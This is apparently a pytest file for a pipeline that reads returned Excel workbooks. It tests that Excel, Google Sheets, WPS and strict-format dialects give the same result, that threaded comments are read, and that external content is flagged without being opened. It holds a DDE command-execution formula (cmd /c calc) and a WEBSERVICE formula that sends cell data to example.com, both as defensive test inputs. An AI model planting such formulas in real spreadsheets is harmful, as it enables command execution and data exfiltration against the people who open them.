"""Workbooks as other programs write them: the same answers; and what would fetch or start something, told and not done.

The dialects are made by hand from the workbook that was sent: what a program is known to write is put in its place.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping

import pytest

from pipeline.documents.docx.parts import packed, unpacked
from pipeline.model.correspondence import Kind, Proposal
from tests.departments.workbooks.books import Books
from tests.departments.workbooks.test_round_trip import VISITORS

Parts = dict[str, bytes]
Rewrite = Callable[[Parts], None]
BOOK, SHEET, STRINGS = "xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
BOOK_RELS, SHEET_RELS = "xl/_rels/workbook.xml.rels", "xl/worksheets/_rels/sheet1.xml.rels"
FIGURE = re.compile(rb'<c r="(J\d+)"( s="\d+")?><v>70.15</v></c>')
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
THREADED = "http://schemas.microsoft.com/office/2017/10/relationships"
TC = "http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def edited(parts: Parts, name: str, *pairs: tuple[str, str]) -> None:
    """Replace text in a part; each must be there."""
    text = parts[name].decode()
    for old, new in pairs:
        assert old in text, (name, old)
        text = text.replace(old, new)
    parts[name] = text.encode()


def figure(parts: Parts, cell: str = '<c r="{}"{}><v>77.5</v></c>') -> str:
    """Write another figure, or another cell, over that of the visitors; return its address."""
    found = FIGURE.search(parts[SHEET])
    assert found is not None
    new = cell.format(found[1].decode(), (found[2] or b"").decode()).encode()
    parts[SHEET] = parts[SHEET].replace(found[0], new)
    return found[1].decode()


def related(parts: Parts, name: str, kind: str, target: str, mode: str = "Internal") -> None:
    """Add a relationship to a part's."""
    empty = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    text = parts.get(name, empty.encode()).decode()
    added = f'<Relationship Id="more{text.count("<")}" Type="{kind}" Target="{target}" TargetMode="{mode}"/>'
    parts[name] = text.replace("</Relationships>", f"{added}</Relationships>").encode()


def strict(parts: Parts) -> None:
    """Write ISO/IEC 29500 strict, as Excel does on request."""
    figure(parts)
    words = (
        (MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main"),
        (OFFICE, "http://purl.oclc.org/ooxml/officeDocument/relationships"),
        ("http://schemas.openxmlformats.org/officeDocument/2006/custom-properties",
         "http://purl.oclc.org/ooxml/officeDocument/customProperties"),
        ("http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes",
         "http://purl.oclc.org/ooxml/officeDocument/docPropsVTypes"),
    )  # fmt: skip
    for name in parts:
        for old, new in words:
            parts[name] = parts[name].replace(old.encode(), new.encode())


def google(parts: Parts) -> None:
    """Export from Google Sheets: texts in the cells, absolute targets, no properties, tables or protection."""
    figure(parts, '<c r="{}" s="3"><v>77.5</v></c>')
    strings = re.findall(r"<si>(.*?)</si>", parts.pop(STRINGS).decode(), re.S)
    extras = "<sheetProtection[^>]*/>|<tableParts.*?</tableParts>|<dataValidations.*?</dataValidations>"
    for name in [name for name in parts if name.startswith("xl/worksheets/sheet")]:
        parts[name] = re.sub(extras, "", _inline(parts[name].decode(), strings)).encode()
    for name in [name for name in parts if name.startswith(("docProps/", "xl/tables/", "xl/worksheets/_rels"))]:
        del parts[name]
    rels = re.sub(r"<Relationship [^>]*sharedStrings[^>]*/>", "", parts[BOOK_RELS].decode())
    parts[BOOK_RELS] = rels.replace('Target="', 'Target="/xl/').encode()
    parts["_rels/.rels"] = re.sub(r"<Relationship [^>]*docProps[^>]*/>", "", parts["_rels/.rels"].decode()).encode()
    edited(parts, "_rels/.rels", ('Target="xl', 'Target="/xl'))


def _inline(text: str, strings: list[str]) -> str:
    return re.sub(
        r'<c r="(\w+)"( s="\d+")? t="s"><v>(\d+)</v></c>',
        lambda found: f'<c r="{found[1]}"{found[2] or ""} t="inlineStr"><is>{strings[int(found[3])]}</is></c>',
        text,
    )


def wps(parts: Parts) -> None:
    """Save in WPS: its properties beside ours, its data at the end of parts, cells without styles of numbers."""
    figure(parts, '<c r="{}"{}><v>77.5</v></c>')
    ksop = '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="9" name="KSOProductBuildVer">'
    lpwstr = "<vt:lpwstr>2052-11.1.0.10700</vt:lpwstr></property></Properties>"
    edited(parts, "docProps/custom.xml", ("</Properties>", ksop + lpwstr))
    custom = '<extLst><ext uri="{1}"><etc:data xmlns:etc="http://www.wps.cn/officeDocument/2017/etCustomData"/></ext>'
    edited(parts, SHEET, ("</worksheet>", f"{custom}</extLst></worksheet>"))
    edited(parts, BOOK, ("</workbook>", f"{custom}</extLst></workbook>"))
    parts["xl/cellimages.xml"] = b'<etc:cellImages xmlns:etc="http://www.wps.cn/officeDocument/2017/etCustomData"/>'


def excel(parts: Parts) -> None:
    """Save in Excel: identifiers of revisions, alternatives, readings of kanji, a chain of calculation."""
    figure(parts, '<c r="{}"{} cm="1"><v>77.5</v></c>')
    names = (
        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" mc:Ignorable="x14ac xr" '
        'xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac" '
        'xmlns:xr="http://schemas.microsoft.com/office/spreadsheetml/2014/revision" xr:uid="{1}"'
    )
    edited(parts, SHEET, ("<worksheet ", f"<worksheet {names} "), ("<row ", '<row x14ac:dyDescent="0.15" '))
    alternative = '<mc:AlternateContent><mc:Choice Requires="x15"/></mc:AlternateContent><sheets>'
    edited(parts, BOOK, ("<workbook ", f"<workbook {names} "), ("<sheets>", alternative))
    reading = '<rPh sb="0" eb="1"><t>ヨミ</t></rPh><phoneticPr fontId="1"/></si>'
    edited(parts, STRINGS, ("</si>", reading))
    parts["xl/calcChain.xml"] = f'<calcChain xmlns="{MAIN}"><c r="A1" i="1"/></calcChain>'.encode()
    related(parts, BOOK_RELS, f"{OFFICE}/calcChain", "calcChain.xml")


def proposed(books: Books, rewrite: Rewrite) -> tuple[Proposal, ...]:
    """Rewrite the workbook that was sent and send it back."""
    parts = dict(unpacked(books.book(), "a.xlsx"))
    rewrite(parts)
    books.put(packed(parts), "回答.xlsx")
    return books.collect()


def told(proposals: tuple[Proposal, ...]) -> Mapping[Kind, list[str]]:
    found: dict[Kind, list[str]] = {}
    for one in proposals:
        found.setdefault(one.kind, []).append(f"{one.new}{one.why}")
    return found


@pytest.mark.parametrize("rewrite", [strict, google, wps, excel])
def test_every_dialect_says_the_same(rewrite: Rewrite, books: Books) -> None:
    found = proposed(books, rewrite)
    assert [(p.path, p.kind, p.new) for p in found] == [(VISITORS, Kind.CHANGE, "77.5")]


def threaded(parts: Parts) -> None:
    place = figure(parts)
    person = '<person displayName="商工 花子" id="{P}" userId="h" providerId="None"/>'
    parts["xl/persons/person.xml"] = f'<personList xmlns="{TC}">{person}</personList>'.encode()
    thread = (
        f'<threadedComment ref="{place}" dT="2021-07-20T09:00:00.00" personId="{{P}}" id="{{A}}" done="1">'
        f"<text>9月に確定します</text></threadedComment>"
        f'<threadedComment ref="{place}" dT="2021-07-21T09:00:00.00" personId="{{P}}" id="{{B}}" parentId="{{A}}">'
        f"<text>承知しました</text></threadedComment>"
    )
    parts["xl/threadedComments/threadedComment1.xml"] = (
        f'<ThreadedComments xmlns="{TC}">{thread}</ThreadedComments>'.encode()
    )
    old = (
        f'<comment ref="{place}" authorId="0"><text><t>[スレッド化されたコメント] 9月に確定します</t></text></comment>'
    )
    other = '<comment ref="C6" authorId="1"><text><r><t>名称を確認</t></r></text></comment>'
    authors = "<authors><author>tc={A}</author><author>農林 太郎</author></authors>"
    comments = f'<comments xmlns="{MAIN}">{authors}<commentList>{old}{other}</commentList></comments>'
    parts["xl/comments1.xml"] = comments.encode()
    related(parts, SHEET_RELS, f"{OFFICE}/comments", "../comments1.xml")
    related(parts, SHEET_RELS, f"{THREADED}/threadedComment", "../threadedComments/threadedComment1.xml")
    related(parts, BOOK_RELS, f"{THREADED}/person", "persons/person.xml")


def test_threads_and_old_comments_are_remarks_with_their_authors(books: Books) -> None:
    found = [p for p in proposed(books, threaded) if p.kind is Kind.COMMENT]
    assert [(p.author, p.date[:10], p.new) for p in found] == [
        ("商工 花子", "2021-07-20", "9月に確定します"),
        ("商工 花子", "2021-07-21", "承知しました"),
        ("農林 太郎", "", "名称を確認"),
    ]
    assert found[0].path == found[1].path == VISITORS
    assert "解決済み" in found[0].why


def external(parts: Parts) -> None:
    figure(parts, '<c r="{}"{}><f>[1]Sheet1!A1</f><v>77.5</v></c>')
    book = f'<externalBook xmlns:r="{OFFICE}" r:id="more1"/>'
    parts["xl/externalLinks/externalLink1.xml"] = f'<externalLink xmlns="{MAIN}">{book}</externalLink>'.encode()
    rels, there = "xl/externalLinks/_rels/externalLink1.xml.rels", "file:///c:/集計.xlsx"
    related(parts, rels, f"{OFFICE}/externalLinkPath", there, "External")
    related(parts, BOOK_RELS, f"{OFFICE}/externalLink", "externalLinks/externalLink1.xml")


def exchange(parts: Parts) -> None:
    figure(parts, "<c r=\"{}\"{}><f>cmd|' /c calc'!A0</f><v>77.5</v></c>")
    dde = '<ddeLink ddeService="cmd" ddeTopic=" /c calc"/>'
    parts["xl/externalLinks/externalLink1.xml"] = f'<externalLink xmlns="{MAIN}">{dde}</externalLink>'.encode()
    related(parts, BOOK_RELS, f"{OFFICE}/externalLink", "externalLinks/externalLink1.xml")


@pytest.mark.parametrize(("rewrite", "there"), [(external, "file:///c:/集計.xlsx"), (exchange, "cmd| /c calc")])
def test_what_lies_outside_is_named_and_not_opened(rewrite: Rewrite, there: str, books: Books) -> None:
    found = told(proposed(books, rewrite))
    assert any(there in text and "開いていません" in text for text in found[Kind.OUTSIDE])
    assert any("数式が入っています" in text for text in found[Kind.QUESTION])
    assert Kind.CHANGE not in found


@pytest.mark.parametrize(
    "formula", ['WEBSERVICE("http://example.com/?"&amp;A1)', 'HYPERLINK("http://example.com","77.5")']
)
def test_formulas_with_side_effects_are_asked_about(formula: str, books: Books) -> None:
    found = proposed(
        books, lambda parts: (figure(parts, f'<c r="{{}}"{{}} t="str"><f>{formula}</f><v>77.5</v></c>'), None)[1]
    )
    ((kind, new, why),) = [(p.kind, p.new, p.why) for p in found if p.path == VISITORS]
    assert kind is Kind.QUESTION
    assert new.startswith(f"={formula[:9]}")
    assert "計算結果は読み取らない" in why
